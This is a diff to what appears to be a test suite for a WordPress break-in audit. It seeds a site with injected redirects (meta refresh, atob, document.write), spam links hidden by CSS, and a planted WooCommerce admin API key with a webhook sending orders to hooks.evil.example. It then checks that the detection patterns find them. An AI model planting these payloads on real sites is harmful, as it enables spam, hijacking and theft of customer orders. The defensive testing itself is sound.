@@ -96,7 +96,8 @@ const INJECTED_HANDLER_OPTION = 'wpc_header_code';
  * a redirect in an option, a script's address decoded by atob in a post field, a link written by document.write.
  */
 const INJECTED_WIDER = {
-  refreshOption: {name: 'wpc_meta_refresh', value: '<meta http-equiv="refresh" content="0;url=https://spam.example/">'},
+  // Spaces around = (review r119a L1): HTML allows them, and browsers obey the refresh
+  refreshOption: {name: 'wpc_meta_refresh', value: '<meta http-equiv = "refresh" content="0;url=https://spam.example/">'},
   atobMeta: {post: 2, key: '_wpc_head_js', value: 'var u = atob("aHR0cHM6Ly9zcGFtLmV4YW1wbGUv"); location = u;'},
   writeOption: {name: 'wpc_ads', value: 'document.write("<a href=https://spam.example/>watches</a>")'},
 };
@@ -180,17 +181,58 @@ const OPEN_SIGNUP = {
  */
 const ESCAPED = {shown: 'x^[[1A^[[2K.php', written: String.raw`x\e[1A\e[2K.php`};
 const ESCAPED_YML = {shown: 'wp-cli^[[2K.yml', written: String.raw`wp-cli\e[2K.yml`};
+/** WooCommerce's API key and webhook tables with `prefix` (their columns as WC_Install::get_schema() makes them). */
+export const wooCommerceTables = (prefix: string) => `CREATE TABLE ${prefix}woocommerce_api_keys (
+  key_id bigint(20) unsigned NOT NULL auto_increment,
+  user_id bigint(20) unsigned NOT NULL,
+  description varchar(200) NULL,
+  permissions varchar(10) NOT NULL,
+  consumer_key char(64) NOT NULL,
+  consumer_secret char(43) NOT NULL,
+  nonces longtext NULL,
+  truncated_key char(7) NOT NULL,
+  last_access datetime NULL default null,
+  PRIMARY KEY  (key_id),
+  KEY consumer_key (consumer_key),
+  KEY consumer_secret (consumer_secret)
+);
+CREATE TABLE ${prefix}wc_webhooks (
+  webhook_id bigint(20) unsigned NOT NULL AUTO_INCREMENT,
+  status varchar(200) NOT NULL,
+  name text NOT NULL,
+  user_id bigint(20) unsigned NOT NULL,
+  delivery_url text NOT NULL,
+  secret text NOT NULL,
+  topic varchar(200) NOT NULL,
+  date_created datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  date_created_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  date_modified datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  date_modified_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
+  api_version smallint(4) NOT NULL,
+  failure_count smallint(10) NOT NULL DEFAULT '0',
+  pending_delivery tinyint(1) NOT NULL DEFAULT '0',
+  PRIMARY KEY  (webhook_id),
+  KEY user_id (user_id)
+);`;
 /**
  * A shop's REST API key and webhook the attacker leaves (review r54 MEDIUM 2), in WooCommerce's own tables (its
  * WC_Install::get_schema()), which the site as installed does not have: the key acts as the administrator.
  */
 const SHOP_KEY = {description: 'Shipping sync', permissions: 'read_write'};
 const SHOP_WEBHOOK = {name: 'Order sync', url: 'https://hooks.evil.example/orders'};
-/** A link hidden by CSS, added to an old page straight in the table, so its change date stays (review r79b M1). */
-const HIDDEN_SPAM = {
-  page: 'Our team',
-  link: '<div style="position:absolute;left:-9999px"><a href="https://pills.example/">pills</a></div>',
-};
+/**
+ * Links hidden by CSS, each added to an old page straight in the table, so its change date stays: off-screen
+ * (review r79b M1), in a 1px box with its overflow hidden and in a box scaled to nothing (review r119a L2).
+ */
+const HIDDEN_SPAM = [
+  {page: 'Our team', link: '<div style="position:absolute;left:-9999px"><a href="https://pills.example/">pills</a></div>'},
+  {page: 'Our history', link: '<span style="width:1px;height:1px;overflow:hidden"><a href="https://pills.example/">pills</a></span>'},
+  {page: 'Our values', link: '<div style="transform:scale(0)"><a href="https://pills.example/">pills</a></div>'},
+];
+/** The hidden-link search's alternatives that catch the last two (review r119a L2), as the page prints them, and the one before them. */
+const HIDDEN_BOX_PATTERN =
+  '(^|[^-a-z]|max-)(height|width|font-size|opacity)[[:space:]]*:[[:space:]]*(0[^.0-9]|1px)|scale[(][[:space:]]*0[[:space:]]*[,)]';
+const HIDDEN_BOX_PATTERN_BEFORE = '(height|width|font-size|opacity)[[:space:]]*:[[:space:]]*0[^.0-9]';
 /** A spam page with no script in it (review r54 LOW 7): only the query of recent changes finds it, first. */
 const SPAM_PAGE = 'Cheap watches';
 /** A spam page given an old date, which WordPress also gives it as its change date (review r63b M3). */
@@ -312,46 +354,18 @@ INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_reg
 INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}');
 SQL
 wp --path=${SITE.root} db query <<'SQL'
-CREATE TABLE wp_woocommerce_api_keys (
-  key_id bigint(20) unsigned NOT NULL auto_increment,
-  user_id bigint(20) unsigned NOT NULL,
-  description varchar(200) NULL,
-  permissions varchar(10) NOT NULL,
-  consumer_key char(64) NOT NULL,
-  consumer_secret char(43) NOT NULL,
-  nonces longtext NULL,
-  truncated_key char(7) NOT NULL,
-  last_access datetime NULL default null,
-  PRIMARY KEY  (key_id),
-  KEY consumer_key (consumer_key),
-  KEY consumer_secret (consumer_secret)
-);
-CREATE TABLE wp_wc_webhooks (
-  webhook_id bigint(20) unsigned NOT NULL AUTO_INCREMENT,
-  status varchar(200) NOT NULL,
-  name text NOT NULL,
-  user_id bigint(20) unsigned NOT NULL,
-  delivery_url text NOT NULL,
-  secret text NOT NULL,
-  topic varchar(200) NOT NULL,
-  date_created datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
-  date_created_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
-  date_modified datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
-  date_modified_gmt datetime NOT NULL DEFAULT '0000-00-00 00:00:00',
-  api_version smallint(4) NOT NULL,
-  failure_count smallint(10) NOT NULL DEFAULT '0',
-  pending_delivery tinyint(1) NOT NULL DEFAULT '0',
-  PRIMARY KEY  (webhook_id),
-  KEY user_id (user_id)
-);
+${wooCommerceTables('wp_')}
 INSERT INTO wp_woocommerce_api_keys (user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
   VALUES (1, '${SHOP_KEY.description}', '${SHOP_KEY.permissions}', SHA2('ck_planted', 256), 'cs_planted', 'planted');
 INSERT INTO wp_wc_webhooks (status, name, user_id, delivery_url, secret, topic, api_version)
   VALUES ('active', '${SHOP_WEBHOOK.name}', 1, '${SHOP_WEBHOOK.url}', 'planted', 'order.created', 3);
 SQL
-wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${HIDDEN_SPAM.page}' --post_date='2020-05-01 09:00:00' --post_content='Meet us.' --porcelain >/dev/null
+${HIDDEN_SPAM.map(
+  ({page}) =>
+    `wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${page}' --post_date='2020-05-01 09:00:00' --post_content='Meet us.' --porcelain >/dev/null`,
+).join('\n')}
 wp --path=${SITE.root} db query <<'SQL'
-UPDATE wp_posts SET post_content = CONCAT(post_content, '${HIDDEN_SPAM.link}') WHERE post_title = '${HIDDEN_SPAM.page}';
+${HIDDEN_SPAM.map(({page, link}) => `UPDATE wp_posts SET post_content = CONCAT(post_content, '${link}') WHERE post_title = '${page}';`).join('\n')}
 SQL
 wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${SPAM_PAGE}' --post_content='<a href="https://spam.example/">watches</a>' --porcelain >/dev/null
 wp --path=${SITE.root} --skip-plugins --skip-themes post create --post_type=page --post_status=publish --post_title='${BACKDATED_PAGE}' --post_date='2019-03-01 10:00:00' --post_content='pills' --porcelain >/dev/null
@@ -900,11 +914,13 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
       `the searches also find a meta refresh in the option ${INJECTED_WIDER.refreshOption.name}, atob in post ${INJECTED_WIDER.atobMeta.post}'s field ${INJECTED_WIDER.atobMeta.key} and document.write in the option ${INJECTED_WIDER.writeOption.name}, none of which holds a script tag, handler or eval`,
       () => `the widened searches for injected code missed ${missedWider.map(([where]) => where).join(', ')}:\n${loaded}`,
     );
+    const missedHidden = HIDDEN_SPAM.filter(({page}) => !new RegExp(`^\\d+\\tpage\\tpublish\\t${page}$`, 'm').test(loaded));
     ctx.expect(
-      new RegExp(`^\\d+\\tpage\\tpublish\\t${HIDDEN_SPAM.page}$`, 'm').test(loaded),
+      missedHidden.length === 0,
       LOADING_CHECKS,
-      `the search for links hidden by CSS lists the page "${HIDDEN_SPAM.page}", changed in the table with no script and its date kept`,
-      () => `the checks that load WordPress did not list the page "${HIDDEN_SPAM.page}" with a link hidden by CSS:\n${loaded}`,
+      `the search for links hidden by CSS lists the pages ${HIDDEN_SPAM.map(({page}) => `"${page}"`).join(', ')} (off-screen, a 1px box, scaled to nothing), changed in the table with no script and their dates kept`,
+      () =>
+        `the checks that load WordPress did not list ${missedHidden.map(({page}) => `the page "${page}"`).join(', ')} with a link hidden by CSS:\n${loaded}`,
     );
     const missedDisguised = Object.values(INJECTED_DISGUISED)
       .filter(({name}) => !new RegExp(`^\\d+\\t${name}$`, 'm').test(loaded))
@@ -1280,8 +1296,21 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
     {
       what: 'leave out the search for links hidden by CSS (review r79b M1)',
       ref: LOADING_CHECKS,
-      edit: replace(/^# Links hidden by CSS.*\n.*\n.*\n/m, ''),
-      expect: /did not list the page "Our team" with a link hidden by CSS/,
+      // The comment, H and the query's two lines
+      edit: replace(/^# Links hidden by CSS.*\n.*\n.*\n.*\n/m, ''),
+      expect: /did not list the page "Our team", the page "Our history", the page "Our values" with a link hidden by CSS/,
+    },
+    {
+      what: 'search for links hidden by CSS with the pattern before review r119a (no 1px box, no scale(0))',
+      ref: LOADING_CHECKS,
+      edit: replace(HIDDEN_BOX_PATTERN, HIDDEN_BOX_PATTERN_BEFORE),
+      expect: /did not list the page "Our history", the page "Our values" with a link hidden by CSS/,
+    },
+    {
+      what: 'search for a meta refresh with the pattern before review r119a (no spaces around =)',
+      ref: LOADING_CHECKS,
+      edit: replace('http-equiv[[:space:]]*=[[:space:]]*.?refresh', 'http-equiv=.?refresh'),
+      expect: /the widened searches for injected code missed the redirect in wpc_meta_refresh:/,
     },
     {
       what: 'reset the passwords without dropping the triggers first (review r84b HIGH)',
@@ -1461,7 +1490,7 @@ done < <(wp --path="$SITE" --skip-plugins --skip-themes role list --field=role) 
     {
       what: 'search with the pattern before review r57 (scripts, handlers, eval, base64_decode only)',
       ref: LOADING_CHECKS,
-      edit: replace('|document[.]write|fromCharCode|atob[(]|gzinflate|str_rot13|http-equiv=.?refresh', ''),
+      edit: replace('|document[.]write|fromCharCode|atob[(]|gzinflate|str_rot13|http-equiv[[:space:]]*=[[:space:]]*.?refresh', ''),
       expect:
         /the widened searches for injected code missed the redirect in wpc_meta_refresh, atob in post 2's _wpc_head_js, document\.write in wpc_ads/,
     },
